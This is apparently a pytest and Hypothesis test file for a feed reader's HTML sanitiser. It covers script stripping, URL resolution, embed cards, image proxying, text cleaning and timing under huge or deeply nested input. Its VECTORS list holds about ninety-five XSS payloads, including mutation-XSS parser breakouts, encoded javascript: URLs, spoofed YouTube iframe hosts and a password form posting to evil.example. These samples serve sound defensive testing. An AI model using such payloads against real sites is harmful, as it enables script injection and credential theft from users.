# ruff: noqa: E501  # vectors and documents as they are
from __future__ import annotations

import re
import time

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from reader.ingest.clean import MAX_HTML, clean, map_images, summary_of
from reader.ingest.cleaning import embeds
from reader.ingest.text import clean_text
from reader.models.entry import SafeHtml
from tests.unit.ingest.oracle import check

BASE = "https://gazette.example/2003/post.html"

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type='text/javascript'>alert(1);</script>",
    "<script/src=data:,alert(1)>",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=x>",
    "<img/src=`%00` onerror=alert(1)>",
    "<IMG SRC=\"jav\tascript:alert('x');\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>",
    "<IMG LOWSRC='javascript:alert(1)' DYNSRC='javascript:alert(1)'>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img srcset='javascript:alert(1) 1x, x onerror=alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img src='</noembed><iframe onload=alert(1)>'></noembed>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'></xmp>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<style><p title='</style><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "<iframe src='https://www.youtube.com.evil.example/embed/abcdefghijk'></iframe>",
    "<iframe src='https://www.youtube.com@evil.example/embed/abcdefghijk'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='&#58javascript:alert(1)'>x</a>",
    "<a href='javascript&Tab;:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='https://x.example/' onclick=alert(1) target=_top ping=https://evil.example/>x</a>",
    "<a href='https://x.example/\" onmouseover=\"alert(1)'>x</a>",
    "<b onmouseover=alert(1) style='background:url(javascript:alert(1))'>x</b>",
    "<div style='position:fixed;inset:0;z-index:9999'>over all</div>",
    "<p class='btn admin' data-behaviour='delete' accesskey=x tabindex=1 contenteditable autofocus onfocus=alert(1)>x</p>",
    "<form action='https://evil.example/'><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<select onchange=alert(1)><option>1</option></select>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video src=x onerror=alert(1)><source onerror=alert(1) src=x></video>",
    "<video poster=javascript:alert(1) autoplay></video>",
    "<audio src=javascript:alert(1) onloadstart=alert(1)></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1) background=javascript:alert(1)>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<link rel=import href='data:text/html,x'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'><a href='x'>y</a>",
    "<style>@import 'javascript:alert(1)';*{display:none}</style>",
    "<table background='javascript:alert(1)'><tr><td background='javascript:alert(1)'>x</td></tr></table>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<portal src=javascript:alert(1)></portal>",
    "<dialog open>Sign in again</dialog>",
    "<isindex action=javascript:alert(1) type=image>",
    "<image src=x onerror=alert(1)>",
    "<plaintext><script>alert(1)</script>",
    "<figure class=embed data-src='javascript:alert(1)'>x</figure>",
    "<figure class=embed data-src='https://evil.example/embed/abcdefghijk' data-provider='\"><script>'>x</figure>",
    "<p id=csrf name=csrf>x</p><a id=location href=#x name=cookie>x</a>",
    "<p lang='\"><script>alert(1)</script>' title='<script>alert(1)</script>'>x</p>",
    "<img src=https://x.example/a.png usemap=#m><map name=m><area href=javascript:alert(1)></map>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<custom-element onclick=alert(1) is=x>text</custom-element>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<a\x00href=javascript:alert(1)>x</a><scr\x00ipt>alert(1)</scr\x00ipt>",
]


def safe(html: str) -> str:
    once = clean(html, base=BASE)
    check(once)
    assert clean(once, base=BASE) == once, "cleaning twice gives the same"
    return once


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_active_comes_through(vector: str) -> None:
    for html in (
        vector,
        f"<p>before {vector} after</p>",
        f"<table><td>{vector}",
        f"<a href='x'>{vector}",
        f"<pre>{vector}",
    ):
        out = safe(html)
        assert not re.search(r"=\"\s*(?:javascript|vbscript|data):", out, re.I)


PIECES = st.sampled_from(
    [*VECTORS, "<p>", "</p>", "<b>", "</b>", "<table>", "<td>", "</table>", "<a href=x>", "</a>", "<li>", "<ul>", "</ul>", "x",
     "<h1>", "</h1>", "<h3>", "&lt;", "&amp;", "<svg>", "</svg>", "<math>", "<mtext>", "<div id=x>", "</div>", "\n", "'", '"',
     "<img src=a.png srcset='b.png 1x, c.png 2x'>", "<iframe src=//player.vimeo.com/video/12345>", "</iframe>", "<!--", "-->"]
)  # fmt: skip


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(PIECES, max_size=8).map("".join))
def test_mixtures_are_safe(html: str) -> None:
    check(clean(html, base=BASE))


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
@example("<a title='<!--'>")
@example("<p>\ud800</p>")
def test_any_text_is_safe(html: str) -> None:
    out = clean(html, base=BASE)
    check(out)
    out.encode("utf-8")


PARTS = st.recursive(
    st.text("ab<>&'\" \n", max_size=6).map(lambda text: text.replace("<", "&lt;")),
    lambda inner: st.tuples(
        st.sampled_from(["p", "div", "b", "em", "ul", "li", "blockquote", "h1", "h2", "pre", "a"]), inner, inner
    ).map(lambda part: f"<{part[0]}>{part[1]}</{part[0]}>{part[2]}"),
    max_leaves=6,
)


@settings(max_examples=200, deadline=None)
@given(PARTS)
def test_cleaning_twice_gives_the_same(html: str) -> None:
    once = clean(html, base=BASE)
    assert clean(once, base=BASE) == once


@pytest.mark.parametrize(
    ("html", "out"),
    [
        ("plain & simple", "plain &amp; simple"),
        ("<p>a<br>b</p>", "<p>a<br>b</p>"),
        ("<h1>A</h1><h2>B</h2><h4>C</h4>", "<h3>A</h3><h4>B</h4><h6>C</h6>"),
        ("<h2>A</h2><h3>B</h3>", "<h3>A</h3><h4>B</h4>"),
        ("<h3>A</h3><h5>B</h5>", "<h3>A</h3><h5>B</h5>"),
        ('<a href="../x?a=1&amp;b=2#c">x</a>', '<a href="https://gazette.example/x?a=1&amp;b=2#c" rel="noopener noreferrer">x</a>'),
        ('<a href="//other.example/">x</a>', '<a href="https://other.example/" rel="noopener noreferrer">x</a>'),
        ('<a href="mailto:a@b.example">x</a>', '<a href="mailto:a@b.example" rel="noopener noreferrer">x</a>'),
        ('<a href="#fn1">1</a><p id="fn1">n</p>', '<a href="#e-fn1" rel="noopener noreferrer">1</a><p id="e-fn1">n</p>'),
        ('<pre class="brush: js; x"><code class="hljs language-py">x</code></pre>', '<pre class="language-js"><code class="language-py">x</code></pre>'),
        ('<font color=red><center>x</center></font>', '<div align="center">x</div>'),
        ("<p>a\u202eb\x00c</p>", "<p>abc</p>"),
        ("<p>a&#x202e;b</p>", "<p>ab</p>"),
        ("<time datetime='2003-12-13'>then</time>", '<time datetime="2003-12-13">then</time>'),
        ("<ol start=5 reversed><li value=7>x</ol>", '<ol start="5" reversed=""><li value="7">x</li></ol>'),
        ("", ""),
    ],
)  # fmt: skip
def test_good_markup_stays(html: str, out: str) -> None:
    assert safe(html) == out


def images(html: str) -> list[str]:
    return re.findall(r'<img src="([^"]*)"', safe(html))


@pytest.mark.parametrize(
    ("html", "urls"),
    [
        ('<img src="a b.png">', ["https://gazette.example/2003/a%20b.png"]),
        ('<img src="/a.png" alt="x">', ["https://gazette.example/a.png"]),
        ('<img data-src="/lazy.jpg">', ["https://gazette.example/lazy.jpg"]),
        ('<img src="data:image/gif;base64,R0" data-lazy-src="/lazy.jpg">', ["https://gazette.example/lazy.jpg"]),
        ('<img src="/i/spacer.gif" data-original="/o.jpg">', ["https://gazette.example/o.jpg"]),
        ('<img data-srcset="/1.jpg 1x, /2.jpg 2x">', ["https://gazette.example/1.jpg"]),
        ('<img data-src="/l.jpg"><noscript><img src="/l.jpg"></noscript>', ["https://gazette.example/l.jpg"]),
        ('<noscript><img src="/only.jpg"></noscript>', ["https://gazette.example/only.jpg"]),
        ('<img src="/p.gif" width="1" height="1">', []),
        ('<img src="/p.gif" width="0">', []),
        ('<img src="/p.gif" style="width:1px;height:1px">', []),
        ('<img src="https://pixel.wp.com/b.gif?x">', []),
        ('<img src="https://feeds.feedburner.com/~r/x/~4/y">', []),
        ('<img src="/wide.png" height="1" width="600">', ["https://gazette.example/wide.png"]),
        ("<img>", []),
    ],
)
def test_images(html: str, urls: list[str]) -> None:
    assert images(html) == urls


def test_srcset_is_resolved_and_survives_commas() -> None:
    out = safe('<picture><source srcset="w_1,h_2/a.png 1x,b.png 2.5x" type="image/webp"><img src="a.png"></picture>')
    assert 'srcset="https://gazette.example/2003/w_1%2Ch_2/a.png 1x, https://gazette.example/2003/b.png 2.5x"' in out


def test_media_has_controls_and_does_not_play_by_itself() -> None:
    out = safe('<video src="v.mp4" autoplay loop poster="p.jpg"><source src="v.webm" type="video/webm"></video>')
    assert 'src="https://gazette.example/2003/v.mp4"' in out and 'poster="https://gazette.example/2003/p.jpg"' in out
    assert 'controls=""' in out and "autoplay" not in out and 'preload="none"' in out


@pytest.mark.parametrize(
    ("frame", "src", "provider"),
    [
        ("//www.youtube.com/embed/abcdefghijk?rel=0", "https://www.youtube-nocookie.com/embed/abcdefghijk", "YouTube"),
        ("https://www.youtube-nocookie.com/embed/abcdefghijk", "https://www.youtube-nocookie.com/embed/abcdefghijk", "YouTube"),
        ("https://www.youtube.com/embed/videoseries?list=PLabcdef", "https://www.youtube-nocookie.com/embed/videoseries?list=PLabcdef", "YouTube"),
        ("https://player.vimeo.com/video/12345?h=x", "https://player.vimeo.com/video/12345", "Vimeo"),
        ("https://www.dailymotion.com/embed/video/x7abc", "https://www.dailymotion.com/embed/video/x7abc", "Dailymotion"),
        ("https://open.spotify.com/embed/episode/4rOoJ6Egrf8K2IrywzwOMk?utm=1", "https://open.spotify.com/embed/episode/4rOoJ6Egrf8K2IrywzwOMk", "Spotify"),
        ("https://w.soundcloud.com/player/?url=https%3A//api.soundcloud.com/tracks/1234&color=x", "https://w.soundcloud.com/player/?url=https%3A//api.soundcloud.com/tracks/1234", "SoundCloud"),
        ("https://bandcamp.com/EmbeddedPlayer/album=12345/size=large/", "https://bandcamp.com/EmbeddedPlayer/album=12345/size=large/", "Bandcamp"),
        ("https://tube.example/videos/embed/9c9de5e8-0a1e-484a-b099-e80766180a6d", "https://tube.example/videos/embed/9c9de5e8-0a1e-484a-b099-e80766180a6d", "PeerTube"),
    ],
)  # fmt: skip
def test_frames_of_known_sites_become_cards(frame: str, src: str, provider: str) -> None:
    out = safe(f'<p>a</p><iframe src="{frame}" title="Ten minutes"></iframe><p>b</p>')
    assert f'<figure class="embed" data-src="{src}" data-provider="{provider}">' in out
    assert ">Ten minutes</a>" in out and "<iframe" not in out
    known = embeds.known(src)
    assert known is not None and known.src == src


def test_other_frames_become_links() -> None:
    out = safe('<iframe src="https://maps.example/x?a=1&amp;b=2"></iframe>')
    assert (
        out
        == '<p><a href="https://maps.example/x?a=1&amp;b=2" rel="noopener noreferrer">Embedded page of maps.example</a></p>'
    )
    assert safe('<iframe src="about:blank" data-src="https://player.vimeo.com/video/12345"></iframe>').startswith(
        "<figure"
    )


@pytest.mark.parametrize(
    "html",
    ["<div>" * 20_000 + "x", "<b>" * 20_000 + "x", "<ul><li>" * 20_000 + "x", "<a href=x><div>" * 5000 + "x",
     "<div><table><tr><td></div></table>" * 5000, "<blockquote>" * 20_000 + "x" + "</blockquote>" * 20_000, "<table><tr><td>" * 3000,
     "<p " + "a=1 " * 100_000 + ">x", "<" * 200_000, "<!--" * 50_000, "&" * 300_000, "<img srcset='" + "a," * 100_000 + "'>",
     "<a" * 400_000, "<script" * 100_000, "<b " * 300_000, "<!--" + '<a "' * 200_000 + "-->" + "<b></b>" * 2000,
     "<img srcset='" + "," * 100_000 + "'>", "<img srcset='a " + "," * 100_000 + "'>", "<a title='" + "<h1>" * 200_000 + "'>x</a>",
     "<iframe src='//www.youtube.com/embed/" + "a" * 200_000 + "'>", "<svg>" * 5000 + "<style>", "<math><mtext>" * 3000, "<i><p>" * 3000, "<font><b><p>" * 2000, "\t" * 500_000 + "<b>"],
    ids=lambda html: html[:30].replace(" ", "_"),
)  # fmt: skip
def test_nesting_and_size_cost_bearable_time(html: str) -> None:
    start = time.perf_counter()
    out = clean(html, base=BASE)
    assert time.perf_counter() - start < 2.5
    assert len(out) <= MAX_HTML * 3


def test_too_long_is_cut_visibly() -> None:
    out = clean("<p>word</p>" * 200_000, base=BASE)
    assert out.endswith("<p>[…]</p>") and len(out) <= MAX_HTML


def test_deep_text_is_kept() -> None:
    assert "inside" in clean("<div>" * 500 + "inside" + "</div>" * 500, base=BASE)


def test_map_images() -> None:
    html = clean('<p title="<img src=x>"><img src="a.png?x=1&amp;y=2" srcset="b.png 2x"><video src="v.mp4" poster="p.jpg"></video></p>'
                 '<picture><source srcset="c.webp 1x"></picture><a href="a.png">x</a>', base="https://x.example/")  # fmt: skip
    seen: list[str] = []

    def proxied(url: str) -> str:
        seen.append(url)
        return f"/image/{len(seen)}?s=a&b"

    out = map_images(html, proxied)
    assert seen == [
        "https://x.example/a.png?x=1&y=2",
        "https://x.example/b.png",
        "https://x.example/p.jpg",
        "https://x.example/c.webp",
    ]
    assert (
        'src="/image/1?s=a&amp;b"' in out
        and 'srcset="/image/2?s=a&amp;b 2x"' in out
        and 'poster="/image/3?s=a&amp;b"' in out
    )
    assert 'src="https://x.example/v.mp4"' in out and 'href="https://x.example/a.png"' in out
    assert map_images(SafeHtml("<p>none</p>"), proxied) == "<p>none</p>"


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("a <b>b</b>\n\n c", "a b c"),
        ("<p>one</p><p>two</p>", "one two"),
        ("AT&amp;T &lt;b&gt;", "AT&T <b>"),
        ("&amp;lt;", "&lt;"),
        ("a<script>x</script>b<style>y</style>", "a b"),
        ("<!-- no -->yes", "yes"),
        ("\u202eevil\u2066 \x00\x1b[31m\ufeff", "evil [31m"),
        ("a &#x202e; b &#xD800; c &#0; d", "a b \ufffd c \ufffd d"),
        ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
        ("x\u00a0y\u2003z", "x y z"),
        ("\ud800x", "x"),
        ("👩\u200d💻 سلام\u200cها", "👩\u200d💻 سلام\u200cها"),
        ("", ""),
    ],
)
def test_clean_text(text: str, plain: str) -> None:
    assert clean_text(text) == plain


@given(st.text(), st.integers(2, 50))
def test_clean_text_keeps_its_limit(text: str, limit: int) -> None:
    plain = clean_text(text, limit=limit)
    assert len(plain) <= limit and "\n" not in plain and "\x00" not in plain
    plain.encode("utf-8")


def test_summary() -> None:
    assert summary_of("<h3>Head</h3><p>Words and words</p>") == "Head Words and words"
    assert len(summary_of("<p>" + "word " * 1000)) <= 300
    assert summary_of("<p>" + "word " * 1000).endswith("word…")


@pytest.mark.parametrize(
    "text", ["<script" * 100_000, "<" * 500_000, "<!--" * 200_000, "<a" * 300_000, "&" * 500_000, " " * 900_000]
)
def test_text_of_anything_costs_bearable_time(text: str) -> None:
    start = time.perf_counter()
    clean_text(text, limit=300)
    assert time.perf_counter() - start < 1
